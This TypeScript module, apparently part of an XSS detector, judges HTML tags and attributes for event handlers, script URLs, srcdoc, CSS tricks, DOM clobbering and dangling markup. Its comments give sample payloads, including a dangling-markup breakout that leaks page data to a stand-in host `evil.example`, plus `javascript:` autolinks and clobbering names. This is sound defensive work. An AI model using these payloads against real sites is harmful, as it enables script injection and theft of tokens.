/**
 * Judges what the tokenizer read: a start tag with its attributes, or a bare attribute list (a
 * value that broke out of an attribute it was placed in). A tag is dangerous for what it can do,
 * not for its name alone: an event handler with code, a script-capable URL in a URL attribute,
 * script or plugin content, a document-level redirect, or a name that clobbers a DOM method.
 */

import { cursor, decodeAt, decodeRange } from './charRefs';
import { judgeCss } from './cssJudge';
import {
  CLOBBER_TARGETS,
  FINGERPRINT_TAGS,
  IMAGE_ONLY_TAGS,
  KNOWN_HANDLERS,
  NAMED_ACCESS_TAGS,
  ROLE_TAGS,
  URL_ATTRIBUTES,
  equalsLowerAt,
  roleOf,
} from './dangerousNames';
import { TagReader, isAsciiLetter, isHtmlSpace } from './htmlTokenizer';
import { findCall, findSinkAssignment } from './jsSyntax';
import { expressionReason, judgeExpression } from './textJudge';
import { bodyLooksLikeCode, isInertBody, schemeMatch, scriptSchemeAt } from './scriptUrl';
import type { XssMatch } from './xssDetector';
import { makeMatch } from './xssMatch';

/** The tag an attribute belongs to; `nameStart === nameEnd` for a bare attribute list. */
interface TagContext {
  s: string;
  /** Where the evidence fragment starts: the tag's `<`, or the start of the attribute list. */
  origin: number;
  nameStart: number;
  nameEnd: number;
  inTag: boolean;
  /** A well-formed tag name: the browser makes an element whose handlers can fire. */
  realElement: boolean;
}

const ctx: TagContext = { s: '', origin: 0, nameStart: 0, nameEnd: 0, inTag: false, realElement: false };

/** Facts about a tag's attributes that matter only together, once the tag is read. */
const facts = { count: 0, href: false, httpEquiv: false, relLoads: false };

export function judgeTag(r: TagReader, s: string, lt: number): XssMatch | undefined {
  ctx.s = s;
  ctx.origin = lt;
  ctx.nameStart = r.nameStart;
  ctx.nameEnd = r.nameEnd;
  ctx.inTag = true;
  ctx.realElement = isElementName(s, r.nameStart, r.nameEnd);
  facts.count = 0;
  facts.href = false;
  facts.httpEquiv = false;
  facts.relLoads = false;

  const autolink = judgeAutolink(s, lt, r.nameStart, r.end);
  if (autolink !== undefined) return autolink;

  // `<x:script xmlns:x="http://www.w3.org/1999/xhtml">` is a script element in XML documents.
  const roleName = ctx.realElement ? ROLE_TAGS.find(s, localNameStart(s, r.nameStart, r.nameEnd), r.nameEnd) : undefined;
  const role = roleName === undefined ? undefined : roleOf(roleName);
  while (r.nextAttribute()) {
    facts.count++;
    const m = judgeAttribute(r) ?? judgeDanglingUrl(r, s, lt);
    if (m !== undefined) return m;
    noteFacts(r);
  }
  if (role === undefined) return undefined;
  const tag = roleName ?? 'custom';
  const end = r.pos;
  switch (role) {
    case 'script':
      // A bare `<script` at the very end is a word in prose, not an element.
      return r.closed || facts.count > 0 ? makeMatch(s, lt, end, 'tag:script', 0.95, 'script element') : undefined;
    case 'style': {
      const close = s.indexOf('<', end);
      const css = s.slice(end, close < 0 ? Math.min(s.length, end + 2048) : close);
      const construct = judgeCss(css, true);
      return construct === undefined ? undefined : makeMatch(s, lt, close < 0 ? s.length : close, `tag:style+css:${construct}`, 0.85, `CSS ${construct} in <style>`);
    }
    case 'frame':
      // A frame of another site runs in that site's origin, not the page's: only its srcdoc,
      // script URLs and handlers (judged above) are script in the page.
      return undefined;
    case 'plugin':
      return facts.count > 0 ? makeMatch(s, lt, end, `tag:${tag}`, 0.7, `<${tag}> plugin content`) : undefined;
    case 'base':
      return facts.href ? makeMatch(s, lt, end, 'tag:base+href', 0.7, '<base href> rebases every relative URL') : undefined;
    case 'meta':
      return facts.httpEquiv ? makeMatch(s, lt, end, 'tag:meta+http-equiv', 0.75, '<meta http-equiv> (refresh, cookie or charset)') : undefined;
    case 'link':
      return facts.href && facts.relLoads ? makeMatch(s, lt, end, 'tag:link+import', 0.5, '<link> imports a stylesheet or document') : undefined;
  }
}

/** Judges a value that lands inside a tag: attributes read from `start` until `>`. */
export function judgeAttributeList(r: TagReader, s: string, start: number): XssMatch | undefined {
  r.beginAttributes(s, start);
  ctx.s = s;
  ctx.origin = start;
  ctx.nameStart = start;
  ctx.nameEnd = start;
  ctx.inTag = false;
  ctx.realElement = true;
  while (r.nextAttribute()) {
    const m = judgeAttribute(r);
    if (m !== undefined) return m;
  }
  return undefined;
}

function judgeAttribute(r: TagReader): XssMatch | undefined {
  const s = ctx.s;
  const a = r.attrStart;
  const ae = r.attrEnd;
  if (!r.hasValue()) return undefined;
  const v = r.valueStart;
  const ve = r.valueEnd;
  if (isBlank(s, v, ve)) return undefined;
  const valueEnd = r.quote !== 0 && ve < s.length && s.charCodeAt(ve) === r.quote ? ve + 1 : ve;

  if (isHandlerName(s, a, ae)) {
    if (ctx.realElement && (ctx.inTag || valueRunsCode(s, v, ve))) {
      const handler = KNOWN_HANDLERS.find(s, a, ae) ?? 'on*';
      return makeMatch(s, ctx.origin, valueEnd, `${tagPart()}handler:${handler}`, ctx.inTag ? 0.95 : 0.85, `event handler ${handler} on ${tagLabel()}`);
    }
    return undefined;
  }
  if (isFrameworkBinding(s, a, ae)) {
    const construct = judgeExpression(s, v, ve);
    if (construct !== undefined) {
      return makeMatch(s, ctx.origin, valueEnd, `${tagPart()}binding:${construct}`, 0.75, `framework binding on ${tagLabel()} ${expressionReason(construct)}`);
    }
    return undefined;
  }
  const attrLength = ae - a;
  if (attrLength === 5 && equalsLowerAt(s, a, 'style')) {
    const construct = judgeCss(decodeRange(s, v, ve, 2048), false);
    if (construct !== undefined) {
      return makeMatch(s, ctx.origin, valueEnd, `${tagPart()}css:${construct}`, 0.85, `CSS ${construct} in a style attribute`);
    }
    return undefined;
  }
  if (attrLength === 6 && equalsLowerAt(s, a, 'srcdoc') && (ctx.inTag || decodeRange(s, v, ve, 4096).includes('<'))) {
    return makeMatch(s, ctx.origin, valueEnd, `${tagPart()}srcdoc`, 0.9, `srcdoc document on ${tagLabel()}`);
  }
  if (ctx.inTag) {
    const m = judgeOddValue(s, v, ve, valueEnd, r.quote);
    if (m !== undefined) return m;
  }
  const scheme = judgeSchemes(s, a, ae, v, ve, valueEnd);
  if (scheme !== undefined) return scheme;
  if (ctx.inTag && (attrLength === 2 || attrLength === 4)) return judgeClobbering(s, a, ae, v, ve, valueEnd);
  return undefined;
}

/** Values that only old or lenient parsers execute: `src= onerror=...`, Netscape `&{...}`. */
function judgeOddValue(s: string, v: number, ve: number, valueEnd: number, quote: number): XssMatch | undefined {
  if (quote === 0 && ve - v > 6 && equalsLowerAt(s, v, 'on')) {
    let i = v + 2;
    while (i < ve && isAsciiLetter(s.charCodeAt(i))) i++;
    if (i - v >= 5 && s.charCodeAt(i) === 61) {
      return makeMatch(s, ctx.origin, valueEnd, `${tagPart()}handler:on*`, 0.7, `event handler hidden in an unquoted value on ${tagLabel()}`);
    }
  }
  if (s.charCodeAt(v) === 38 && s.charCodeAt(v + 1) === 123) {
    return makeMatch(s, ctx.origin, valueEnd, `${tagPart()}js-entity`, 0.6, `JavaScript entity &{...} on ${tagLabel()}`);
  }
  return undefined;
}

/**
 * Looks for a script-capable URL at the start of the value and after separators (`;url=`,
 * `values="x;javascript:..."`), where meta refresh and SVG animation put theirs.
 */
function judgeSchemes(s: string, a: number, ae: number, v: number, ve: number, valueEnd: number): XssMatch | undefined {
  if (!hasColonOrAmp(s, v, ve)) return undefined;
  const urlAttribute = URL_ATTRIBUTES.find(s, a, ae);
  let checked = 0;
  for (let p = v; p < ve && checked < 32; p++) {
    if (p > v && !isUrlBoundary(s.charCodeAt(p - 1))) continue;
    const c = s.charCodeAt(p) | 0x20;
    if (c !== 106 && c !== 118 && c !== 108 && c !== 100 && c !== 38 && s.charCodeAt(p) > 0x20) continue;
    checked++;
    const scheme = scriptSchemeAt(s, p, ve);
    if (scheme === undefined) continue;
    const bodyStart = schemeMatch.bodyStart;
    const attr = urlAttribute ?? 'attribute';
    if (scheme === 'javascript' || scheme === 'vbscript' || scheme === 'livescript') {
      const runs = urlAttribute !== undefined ? !isInertBody(s, bodyStart, ve) : bodyLooksLikeCode(s, bodyStart, ve);
      if (runs) {
        return makeMatch(s, ctx.origin, valueEnd, `${tagPart()}scheme:${scheme}`, urlAttribute !== undefined ? 0.9 : 0.7, `${scheme}: URL in ${attr} of ${tagLabel()}`);
      }
      continue;
    }
    if (scheme === 'data-opaque') continue;
    if (scheme === 'data-svg' && ctx.inTag && IMAGE_ONLY_TAGS.has(s, ctx.nameStart, ctx.nameEnd)) continue;
    if (urlAttribute !== undefined) {
      return makeMatch(s, ctx.origin, valueEnd, `${tagPart()}scheme:${scheme}`, 0.85, `${scheme.replace('-', ':')} URL in ${attr} of ${tagLabel()}`);
    }
  }
  return undefined;
}

function hasCharIn(s: string, code: number, v: number, ve: number): boolean {
  for (let i = v; i < ve; i++) if (s.charCodeAt(i) === code) return true;
  return false;
}

function hasColonOrAmp(s: string, v: number, ve: number): boolean {
  for (let i = v; i < ve; i++) {
    const c = s.charCodeAt(i);
    if (c === 58 || c === 38) return true;
  }
  return false;
}

function isUrlBoundary(c: number): boolean {
  return c === 59 || c === 44 || c === 61 || c === 40 || c === 39 || c === 34 || c === 96 || c <= 0x20;
}

/** `<img name=getElementById>`, `<form id=x><input name=attributes>`: named access shadows DOM API. */
function judgeClobbering(s: string, a: number, ae: number, v: number, ve: number, valueEnd: number): XssMatch | undefined {
  const attrLength = ae - a;
  const isId = attrLength === 2 && equalsLowerAt(s, a, 'id');
  const isName = attrLength === 4 && equalsLowerAt(s, a, 'name');
  if (!isId && !isName) return undefined;
  if (ve - v > 32 || !NAMED_ACCESS_TAGS.has(s, ctx.nameStart, ctx.nameEnd)) return undefined;
  const value = decodeRange(s, v, ve, 32).trim();
  if (!CLOBBER_TARGETS.has(value)) return undefined;
  return makeMatch(s, ctx.origin, valueEnd, `${tagPart()}clobber:${isId ? 'id' : 'name'}`, 0.6, `${tagLabel()} named ${value} shadows a DOM property`);
}

function noteFacts(r: TagReader): void {
  const s = ctx.s;
  const a = r.attrStart;
  const length = r.attrEnd - a;
  if (length === 4 && equalsLowerAt(s, a, 'href')) facts.href = true;
  else if (length === 10 && equalsLowerAt(s, a, 'http-equiv') && r.hasValue()) facts.httpEquiv = true;
  else if (length === 3 && equalsLowerAt(s, a, 'rel') && r.hasValue()) {
    const rel = decodeRange(s, r.valueStart, r.valueEnd, 64).toLowerCase();
    facts.relLoads = rel.includes('import') || rel.includes('stylesheet');
  }
}

const LOADING_ATTRIBUTES = ['src', 'href', 'action', 'formaction', 'background', 'poster', 'data', 'srcset', 'ping'];

/**
 * Dangling markup: `"><img src='//evil.example/log?` breaks out of an attribute and opens a URL
 * that is never closed, so the browser sends the page up to the next matching quote (a CSRF
 * token, say) to the attacker's host. Needs the breakout right before the tag and a URL to
 * another origin; an editor never leaves a loading attribute open.
 */
function judgeDanglingUrl(r: TagReader, s: string, lt: number): XssMatch | undefined {
  if (!r.unclosed || !ctx.realElement || !breaksOutBefore(s, lt)) return undefined;
  const loads = LOADING_ATTRIBUTES.some((name) => r.attrEnd - r.attrStart === name.length && equalsLowerAt(s, r.attrStart, name));
  if (!loads) return undefined;
  let v = r.valueStart;
  while (v < r.valueEnd && isHtmlSpace(s.charCodeAt(v))) v++;
  const offsite = s.startsWith('//', v) || s.startsWith('\\\\', v) || /^https?:/i.test(s.slice(v, v + 6));
  if (!offsite) return undefined;
  return makeMatch(s, lt, r.valueEnd, 'dangling-markup', 0.7, 'breaks out of an attribute and leaves a URL open to capture the page');
}

/** Whether `">` or `'>` (spaces allowed) stands right before `lt`. */
function breaksOutBefore(s: string, lt: number): boolean {
  let k = lt - 1;
  while (k >= 0 && isHtmlSpace(s.charCodeAt(k))) k--;
  if (s.charCodeAt(k) !== 62 /* > */) return false;
  const q = s.charCodeAt(k - 1);
  return q === 34 || q === 39;
}

/** `<javascript:alert(1)>`: a markdown autolink, or a tag whose "name" is a script URL. */
function judgeAutolink(s: string, lt: number, nameStart: number, end: number): XssMatch | undefined {
  const scheme = scriptSchemeAt(s, nameStart, end);
  if (scheme === undefined) return undefined;
  const gt = s.indexOf('>', nameStart);
  const close = gt < 0 || gt >= end ? end : gt;
  const runs = scheme.startsWith('data')
    ? (scheme === 'data-html' || scheme === 'data-script') && schemeMatch.dataStart >= 0
    : bodyLooksLikeCode(s, schemeMatch.bodyStart, close);
  if (!runs) return undefined;
  return makeMatch(s, lt, close + 1, `autolink+scheme:${scheme}`, 0.7, `${scheme} URL in an autolink`);
}

function isHandlerName(s: string, a: number, ae: number): boolean {
  // Inside a tag a stray quote starts the name for the browser, but old engines and sloppy
  // sanitizers let `<input "onfocus=...>` through; keep judging it as the handler it means to be.
  while (ctx.inTag && a < ae && (s.charCodeAt(a) === 34 || s.charCodeAt(a) === 39)) a++;
  if (ae - a < 5 || (s.charCodeAt(a) | 0x20) !== 111 || (s.charCodeAt(a + 1) | 0x20) !== 110) return false;
  for (let i = a + 2; i < ae; i++) if (!isAsciiLetter(s.charCodeAt(i))) return false;
  return true;
}

/**
 * AngularJS `ng-click`, Vue `v-if`/`:prop`/`@click`, Alpine `x-on:click`: client-side frameworks
 * compile these attribute values to code, so they are judged like template expressions.
 */
function isFrameworkBinding(s: string, a: number, ae: number): boolean {
  if (ae - a < 2) return false;
  const c = s.charCodeAt(a);
  return (
    c === 64 /* @ */ ||
    c === 58 /* : */ ||
    equalsLowerAt(s, a, 'ng-') ||
    equalsLowerAt(s, a, 'data-ng-') ||
    equalsLowerAt(s, a, 'x-ng-') ||
    equalsLowerAt(s, a, 'v-') ||
    equalsLowerAt(s, a, 'x-')
  );
}

function localNameStart(s: string, start: number, end: number): number {
  for (let i = end - 1; i > start; i--) if (s.charCodeAt(i) === 58) return i + 1;
  return start;
}

/** Outside a tag a handler needs code in it: prose like "onload=true" is not an attack. */
function valueRunsCode(s: string, v: number, ve: number): boolean {
  if (hasCharIn(s, 38, v, ve)) {
    const decoded = decodeRange(s, v, ve, 1024);
    return findCall(decoded, 0, decoded.length) >= 0 || findSinkAssignment(decoded, 0, decoded.length) || decoded.includes('constructor');
  }
  return findCall(s, v, ve) >= 0 || findSinkAssignment(s, v, ve);
}

function isBlank(s: string, v: number, ve: number): boolean {
  for (let i = v; i < ve; i++) {
    const c = decodeAt(s, i, ve);
    if (!isHtmlSpace(c) && c !== 0) return false;
    i = cursor.next - 1;
  }
  return true;
}

/** Letters, digits, `-`, `:`, `_`, `.`: the names that make an element a page would render. */
function isElementName(s: string, start: number, end: number): boolean {
  for (let i = start; i < end; i++) {
    const c = s.charCodeAt(i);
    if (!(isAsciiLetter(c) || (c >= 48 && c <= 57) || c === 45 || c === 58 || c === 95 || c === 46)) return false;
  }
  return end > start;
}

function tagPart(): string {
  return ctx.inTag ? `tag:${FINGERPRINT_TAGS.find(ctx.s, ctx.nameStart, ctx.nameEnd) ?? 'custom'}+` : 'attr+';
}

function tagLabel(): string {
  if (!ctx.inTag) return 'an attribute breakout';
  const name = FINGERPRINT_TAGS.find(ctx.s, ctx.nameStart, ctx.nameEnd);
  return name === undefined ? 'a custom element' : `<${name}>`;
}
